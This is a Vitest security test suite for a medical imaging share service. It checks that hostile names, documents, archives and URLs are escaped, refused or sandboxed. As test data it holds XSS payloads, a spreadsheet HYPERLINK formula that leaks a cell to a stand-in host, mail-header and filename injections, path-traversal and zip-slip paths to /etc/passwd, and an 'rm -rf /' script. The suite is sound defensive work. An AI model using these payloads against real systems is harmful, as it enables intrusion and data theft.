import { randomUUID } from "node:crypto";
import fs from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { db } from "@/lib/db";
import { newUid } from "@/lib/dicom";
import { env } from "@/lib/env";
import { addDocument } from "@/lib/studies";
import { ingest, makeInstance } from "../../support/ingest";
import { startSite } from "../../support/site";
import { organizationContext } from "../../support/user-context";
import { makeZip } from "../../support/zip";
import { asStream, makeRights, type Rights, tokenOf } from "../rights/people";
import { runQueued } from "../shares/world";

const root = path.resolve(import.meta.dirname, "../../..");
const MARKUP = `<img src=x onerror=alert(1)>"'</title><script>alert(1)</script>`;
const FORMULA = '=HYPERLINK("http://elders.example/?"&A1,"klik")';
const BIDI = "Jansen\u202Efdp.exe\u2066\u200B";
const LONG = "X".repeat(65_536);
const NUL = "Jan\u0000sen";
const UP = "../../../../etc/passwd";
const TEXTS = { MARKUP, FORMULA, BIDI, UP };

let site: Awaited<ReturnType<typeof startSite>>;
let rights: Rights;
beforeAll(async () => {
  site = await startSite();
  rights = await makeRights();
});
afterAll(() => site.stop());

async function call(
  token: string | undefined,
  method: string,
  address: string,
  body?: unknown,
  headers: Record<string, string> = {},
) {
  const response = await fetch(site.origin + address, {
    method,
    headers: {
      ...(token && { authorization: `Bearer ${token}` }),
      ...(body !== undefined && { "content-type": "application/json" }),
      ...headers,
    },
    ...(body !== undefined && { body: JSON.stringify(body) }),
  });
  const bytes = Buffer.from(await response.arrayBuffer());
  return { status: response.status, headers: response.headers, bytes, text: bytes.toString() };
}

/** A study whose every text is hostile. */
async function makeHostileStudy(text: string): Promise<string> {
  const study = newUid();
  const [entry] = await ingest(
    rights.noord.id,
    makeInstance({
      StudyInstanceUID: study,
      PatientName: text.slice(0, 60),
      PatientID: text.slice(0, 60),
      StudyDescription: text.slice(0, 60),
      SeriesDescription: text.slice(0, 60),
      AccessionNumber: text.slice(0, 16),
    }),
  );
  expect(entry?.outcome).toBe("STORED");
  return study;
}

const filesOf = (zip: Buffer) => {
  const names: string[] = [];
  for (let at = zip.indexOf("PK\u0001\u0002"); at >= 0; at = zip.indexOf("PK\u0001\u0002", at + 4))
    names.push(zip.subarray(at + 46, at + 46 + zip.readUInt16LE(at + 28)).toString());
  return names;
};

function storedFile(zip: Buffer, name: string): string {
  const at = zip.indexOf(Buffer.concat([Buffer.from(name)]));
  const end = zip.indexOf("</html>", at);
  return zip.subarray(at + name.length, end).toString();
}

describe.each(Object.entries(TEXTS))("names and texts with %s", (_, text) => {
  it("do nothing in an archive: pages escape them and no file is named by them", async () => {
    const study = await makeHostileStudy(text);
    await addDocument(await organizationContext(rights.noord.id), {
      organizationId: rights.noord.id,
      studyInstanceUid: study,
      title: text,
      bytes: asStream(Buffer.from(`%PDF-1.4\n${randomUUID()}\n%%EOF\n`)),
    });
    const archive = await call(rights.tokens.sender, "GET", `/api/v1/studies/${study}/archive`);
    expect(archive.status).toBe(200);
    expect(archive.headers.get("content-disposition")).toMatch(
      /^attachment; filename="beeldbrug-[a-z0-9]+\.zip"$/,
    );
    const names = filesOf(archive.bytes);
    expect(names.length).toBeGreaterThanOrEqual(5);
    for (const name of names) expect(name).toMatch(/^[A-Z0-9_]{1,8}(\/[A-Z0-9_]{1,8}){0,3}(\.[A-Z]{3})?$/);
    const page = storedFile(archive.bytes, "INDEX.HTM");
    expect(page).toContain("Content-Security-Policy\" content=\"default-src 'none'");
    expect(page).not.toMatch(/<(script|img|svg|iframe|object|base)\b/i);
    expect(page).not.toMatch(/\son\w+=[^&]*>(?!.*&gt;)/);
    for (const link of page.matchAll(/(?:href|src)="([^"]*)"/g))
      expect(link[1]).toMatch(/^DOCUMENT\/DOC\d{5}\.PDF$/);
  });

  it("are data in JSON: the type says so and nothing may guess another", async () => {
    const study = await makeHostileStudy(text);
    for (const [address, type] of [
      [`/api/v1/studies/${study}`, "application/json"],
      [`/dicom-web/studies/${study}/metadata`, "application/dicom+json"],
      [`/dicom-web/studies?PatientID=${encodeURIComponent(text.slice(0, 60))}`, "application/dicom+json"],
    ] as const) {
      const answer = await call(rights.tokens.sender, "GET", address, undefined, { accept: "*/*" });
      expect([address, answer.status < 400]).toEqual([address, true]);
      if (answer.status === 200) expect(answer.headers.get("content-type")).toContain(type);
      expect(answer.headers.get("x-content-type-options")).toBe("nosniff");
    }
  });

  it("are text in the mail of who bears them", async () => {
    const account = await db.user.create({
      data: {
        organizationId: rights.noord.id,
        email: `${randomUUID()}@noord.example`,
        name: `${text}\r\nBcc: elders@elders.example`,
        roles: ["CARE_PROVIDER"],
      },
    });
    const sent = await call(await tokenOf({ userId: account.id }), "POST", "/api/v1/shares", {
      studies: [{ studyInstanceUid: rights.study }],
      recipients: [{ addressId: rights.addresses.recipient }],
      purpose: "CONSULT",
      priority: "ROUTINE",
      message: text,
    });
    expect(sent.status).toBe(201);
    expect(await runQueued()).toEqual([]);
    const [mail] = await db.caughtMail.findMany({ orderBy: { id: "desc" }, take: 1 });
    expect(mail?.subject).not.toMatch(/[\r\n]|Bcc|Jansen|HYPERLINK/);
    expect(mail?.html).not.toMatch(/<(script|img|svg|iframe)\b/i);
    for (const link of mail?.html.matchAll(/(?:href|src)="([^"]*)"/g) ?? [])
      expect(link[1]).toMatch(/^http:\/\/127\.0\.0\.1:3000\/s\//);
  });
});

describe("the log as a spreadsheet", () => {
  it("has no cell that begins a formula", async () => {
    for (const name of [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]) {
      const account = await db.user.create({
        data: {
          organizationId: rights.noord.id,
          email: `${randomUUID()}@noord.example`,
          name,
          roles: ["CARE_PROVIDER"],
        },
      });
      const token = await tokenOf({ userId: account.id });
      expect((await call(token, "POST", "/api/v1/studies/search", {})).status).toBe(200);
    }
    const study = await makeHostileStudy(FORMULA);
    expect((await call(rights.tokens.sender, "GET", `/api/v1/studies/${study}`)).status).toBe(200);
    const csv = await call(rights.tokens.privacy, "POST", "/api/v1/audit/export", { format: "csv" });
    expect(csv.headers.get("content-type")).toContain("text/csv");
    expect(csv.headers.get("content-disposition")).toMatch(
      /^attachment; filename="beeldbrug-log-[0-9-]+\.csv"$/,
    );
    expect(csv.text).toContain("HYPERLINK");
    expect(csv.text).not.toMatch(/(^|[,\n])"?[=+\-@\t\r](?!\n)/);
  });
});

describe("texts that are too long or can't be stored", () => {
  it("are refused as wrong input, never as our own failure", async () => {
    const { sender, admin, recipient } = rights.tokens;
    const share = await call(sender, "POST", "/api/v1/shares", {
      studies: [{ studyInstanceUid: rights.study }],
      recipients: [{ addressId: rights.addresses.recipient }],
      purpose: "CONSULT",
      priority: "ROUTINE",
    });
    const { id } = JSON.parse(share.text) as { id: string };
    for (const text of [LONG, NUL])
      for (const [token, address, body] of [
        [sender, "/api/v1/studies/search", { text }],
        [sender, "/api/v1/studies/search", { patientIdentifier: text }],
        [sender, "/api/v1/directory/search", { q: text }],
        [
          sender,
          "/api/v1/shares",
          { studies: [{ studyInstanceUid: text }], recipients: [{ addressId: text }] },
        ],
        [sender, `/api/v1/shares/${id}/replies`, { text }],
        [recipient, `/api/v1/shares/${id}/decline`, { reason: text }],
        [sender, `/api/v1/shares/${id}/recipients`, { addressId: text }],
        [sender, `/api/v1/shares/${encodeURIComponent(NUL)}/revoke`, {}],
        [admin, "/api/v1/administration/users", { email: `${text}@noord.example`, name: "x", roles: [] }],
        [admin, "/api/v1/administration/users", { email: "a@noord.example", name: text, roles: [] }],
        [rights.tokens.privacy, "/api/v1/audit/search", { user: text }],
        [rights.tokens.privacy, "/api/v1/audit/export", { action: text, format: "csv" }],
      ] as const) {
        const { status, headers, text: answer } = await call(token, "POST", address, body);
        expect([address, Object.keys(body), status >= 400 && status < 500, status]).toEqual([
          address,
          Object.keys(body),
          true,
          status,
        ]);
        expect(headers.get("content-type")).toBe("application/problem+json");
        // Nor thrown back.
        expect(answer.length).toBeLessThan(4_000);
      }
    const big = await call(sender, "POST", "/api/v1/studies/search", { text: "x".repeat(2_000_000) });
    expect(big.status).toBe(413);
  });

  it("are taken or refused in an instance, and the study still opens", async () => {
    // As long as a short value representation can be.
    for (const text of [LONG.slice(0, 65_534), NUL, `\u0000${MARKUP}`]) {
      const study = newUid();
      const [entry] = await ingest(
        rights.noord.id,
        makeInstance({
          StudyInstanceUID: study,
          PatientName: text,
          PatientID: "H1",
          StudyDescription: text,
          SeriesDescription: text,
          InstitutionName: text,
        }),
      );
      expect(["STORED", "REFUSED"]).toContain(entry?.outcome);
      if (entry?.outcome !== "STORED") continue;
      for (const address of [
        `/api/v1/studies/${study}`,
        `/dicom-web/studies/${study}/metadata`,
        `/dicom-web/studies/${study}/series`,
        `/api/v1/studies/${study}/archive`,
      ])
        expect([address, (await call(rights.tokens.sender, "GET", address)).status]).toEqual([address, 200]);
    }
    const page = await call(rights.tokens.sender, "POST", "/api/v1/studies/search", { limit: 200 });
    expect(page.status).toBe(200);
  });
});

describe("documents", () => {
  const add = async (bytes: string | Buffer, title = "verslag.pdf") =>
    addDocument(await organizationContext(rights.noord.id), {
      organizationId: rights.noord.id,
      studyInstanceUid: rights.study,
      title,
      bytes: asStream(Buffer.from(bytes)),
    });

  it.each([
    ["HTML", "<!doctype html><script>alert(1)</script>"],
    ["HTML with room before it", `${" ".repeat(2000)}<html><script>alert(1)</script></html>`],
    ["SVG", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
    [
      "SVG as XML",
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    ],
    ["a program", "MZ\u0090\u0000this program cannot be run"],
    ["a script", "#!/bin/sh\nrm -rf /\n"],
    ["a word processor's file", Buffer.from("d0cf11e0a1b11ae1", "hex")],
    ["nothing", ""],
  ])("refuse %s that is called a PDF", async (_, bytes) => {
    await expect(add(bytes)).rejects.toMatchObject({ code: "document_type", status: 415 });
  });

  it("are served by what they are, in a sandbox, under a name of ours", async () => {
    await add(
      `%PDF-1.4\n<script>alert(1)</script>${randomUUID()}\n%%EOF\n`,
      `x"; filename="evil.html\r\nX-A: b`,
    );
    const documents = await db.studyDocument.findMany({
      where: { study: { studyInstanceUid: rights.study } },
    });
    expect(documents.length).toBeGreaterThan(1);
    for (const { id } of documents) {
      const { status, headers } = await call(
        rights.tokens.sender,
        "GET",
        `/api/v1/studies/${rights.study}/documents/${id}`,
        undefined,
        { accept: "text/html" },
      );
      expect(status).toBe(200);
      expect(headers.get("content-type")).toBe("application/pdf");
      expect(headers.get("content-disposition")).toBe('inline; filename="document.pdf"');
      expect(headers.get("x-content-type-options")).toBe("nosniff");
      expect(headers.get("cross-origin-resource-policy")).toBe("same-origin");
      const policy = directives(headers.get("content-security-policy"));
      expect(policy.sandbox).toEqual([]);
      expect(policy["default-src"]).toEqual(["'none'"]);
      expect(policy["script-src"]).toBeUndefined();
    }
  });

  it("inside instances are PDF or nothing", async () => {
    const encapsulated = async (bytes: string, type: string) => {
      const uids = { StudyInstanceUID: newUid(), SeriesInstanceUID: newUid(), SOPInstanceUID: newUid() };
      const padded = Buffer.from(bytes.length % 2 === 0 ? bytes : `${bytes} `);
      await ingest(
        rights.noord.id,
        makeInstance({
          ...uids,
          SOPClassUID: "1.2.840.10008.5.1.4.1.1.104.1",
          Modality: "DOC",
          MIMETypeOfEncapsulatedDocument: type,
          EncapsulatedDocument: new Uint8Array(padded),
        }),
      );
      return call(
        rights.tokens.sender,
        "GET",
        `/dicom-web/studies/${uids.StudyInstanceUID}/series/${uids.SeriesInstanceUID}/instances/${uids.SOPInstanceUID}/rendered`,
        undefined,
        { accept: "application/pdf" },
      );
    };
    const html = await encapsulated("<html><script>alert(1)</script>", "text/html");
    expect(html.status).toBeGreaterThanOrEqual(400);
    const pdf = await encapsulated("%PDF-1.4 <script>alert(1)</script> %%EOF", "text/html");
    expect(pdf.status).toBe(200);
    expect(pdf.headers.get("content-type")).toBe("application/pdf");
    expect(pdf.headers.get("x-content-type-options")).toBe("nosniff");
    expect(directives(pdf.headers.get("content-security-policy")).sandbox).toEqual([]);
  });
});

describe("places outside", () => {
  it("are reached by no path, id or file name", async () => {
    for (const address of [
      "/dicom-web/studies/..%2f..%2f..%2fetc%2fpasswd/metadata",
      "/dicom-web/shares/..%2f..%2fstudies/studies",
      "/dicom-web/studies/%00/metadata",
      "/dicom-web/studies/%zz/metadata",
      `/dicom-web/studies/${rights.study}/series/${rights.series}/instances/${rights.instance}/bulkdata/..%2f..%2fetc`,
      "/uploads/..%2f..%2fetc%2fpasswd",
      "/uploads/%00",
      "/api/v1/studies/..%2f..%2fetc/archive",
      "/api/v1/shares/..%2f../archive",
    ]) {
      const method = address.startsWith("/uploads") ? "HEAD" : "GET";
      const { status } = await call(rights.tokens.care, method, address, undefined, {
        "tus-resumable": "1.0.0",
      });
      expect([address, [400, 404].includes(status), status]).toEqual([address, true, status]);
    }
  });

  it("are not written to by an archive that names them", async () => {
    const before = fs.readdirSync(path.dirname(env.DATA_DIR)).sort();
    const study = newUid();
    const instance = makeInstance({ StudyInstanceUID: study });
    const zip = makeZip({
      "../../outside.dcm": instance,
      "/tmp/absolute.dcm": Buffer.from("x"),
      "..\\w.dcm": instance,
    });
    const file = path.join(env.DATA_DIR, "hostile.zip");
    fs.writeFileSync(file, zip);
    const { ingestPaths } = await import("@/lib/ingest");
    const { systemContext } = await import("@/lib/context");
    const report = await ingestPaths(systemContext("test"), {
      organizationId: rights.noord.id,
      paths: [file],
    });
    expect(report.stored).toBe(1);
    expect(
      fs.readdirSync(path.dirname(env.DATA_DIR)).filter((name) => /outside|absolute/.test(name)),
    ).toEqual([]);
    expect(before.every((name) => !/outside|absolute/.test(name))).toBe(true);
    expect(fs.existsSync("/tmp/absolute.dcm")).toBe(false);
  });
});

type Directives = Record<string, string[] | undefined>;
const directives = (policy: string | null): Directives =>
  Object.fromEntries(
    (policy ?? "").split(";").map((part) => {
      const [name = "", ...values] = part.trim().split(/\s+/);
      return [name, values];
    }),
  );

describe("headers", () => {
  it("let pages run our own scripts only, by a nonce that nobody can guess or bring along", async () => {
    const nonces = new Set<string>();
    for (const forged of ["", "script-src 'unsafe-inline' 'nonce-forged'"]) {
      const { headers } = await call(
        undefined,
        "GET",
        "/sign-in",
        undefined,
        forged === "" ? {} : { "content-security-policy": forged },
      );
      const policy = directives(headers.get("content-security-policy"));
      const scripts = policy["script-src"] ?? [];
      expect(policy["default-src"]).toEqual(["'self'"]);
      for (const weak of ["'unsafe-inline'", "'unsafe-eval'", "*", "data:", "blob:", "https:", "http:"])
        expect(scripts).not.toContain(weak);
      expect(scripts).toContain("'strict-dynamic'");
      const nonce = scripts.find((value) => value.startsWith("'nonce-")) ?? "";
      expect(Buffer.from(nonce.slice(7, -1), "base64").length).toBeGreaterThanOrEqual(16);
      nonces.add(nonce);
      expect(policy["object-src"]).toEqual(["'none'"]);
      expect(policy["base-uri"]).toEqual(["'none'"]);
      expect(policy["form-action"]).toEqual(["'self'"]);
      expect(policy["frame-ancestors"]).toEqual(["'none'"]);
    }
    expect(nonces.size).toBe(2);
  });

  it("let data of the API be no page", async () => {
    for (const token of [undefined, rights.tokens.sender]) {
      const { headers } = await call(token, "GET", "/api/v1/me");
      const policy = directives(headers.get("content-security-policy"));
      expect(policy).toEqual({ "default-src": ["'none'"], "frame-ancestors": ["'none'"] });
    }
  });

  it("stand on every answer, refusals too", async () => {
    for (const address of ["/", "/api/v1/me", "/api/health", "/dicom-web/studies", "/uploads", "/nowhere"]) {
      const { headers } = await call(undefined, "GET", address);
      expect(headers.get("x-content-type-options")).toBe("nosniff");
      expect(headers.get("referrer-policy")).toBe("no-referrer");
      expect(headers.get("cross-origin-opener-policy")).toBe("same-origin");
      expect(headers.get("x-powered-by")).toBeNull();
      expect(headers.get("access-control-allow-origin")).toBeNull();
    }
  });
});

describe("the source", () => {
  const sources = ["app", "components", "lib"].flatMap((folder) =>
    fs
      .readdirSync(path.join(root, folder), { recursive: true, encoding: "utf8" })
      .filter((name) => /(?<!\.test)\.tsx?$/.test(name) && !name.includes("generated"))
      .map((name) => ({
        name: `${folder}/${name}`,
        source: fs.readFileSync(path.join(root, folder, name), "utf8"),
      })),
  );

  it("makes no markup or code of texts", () => {
    const ways =
      /dangerouslySetInnerHTML|\.(inner|outer)HTML\s*=|insertAdjacentHTML|document\.write|\beval\(|new Function\(/;
    expect(sources.filter(({ source }) => ways.test(source)).map(({ name }) => name)).toEqual([]);
  });

  it("frames made documents in a sandbox without scripts", () => {
    for (const { name, source } of sources)
      for (const [tag] of source.matchAll(/<iframe\b[^>]*>/gs)) {
        if (!tag.includes("srcDoc")) continue;
        expect([name, /sandbox="(?![^"]*allow-scripts)[^"]*"/.test(tag)]).toEqual([name, true]);
      }
  });

  it("redirects to paths of its own only", () => {
    const own = /redirect\((`\/[a-z]|"\/[a-z]|homeFor\(|callbackUrl\)|`\$\{SECOND_FACTOR_PATH\}\?)/;
    for (const { name, source } of sources)
      for (const [use] of source.matchAll(/\bredirect\([^)]*\)?/g)) {
        expect([name, own.test(use)]).toEqual([name, true]);
        if (use.includes("(callbackUrl"))
          expect([name, source]).toEqual([name, expect.stringMatching(/callbackUrl = ownPath\(/)]);
      }
  });
});
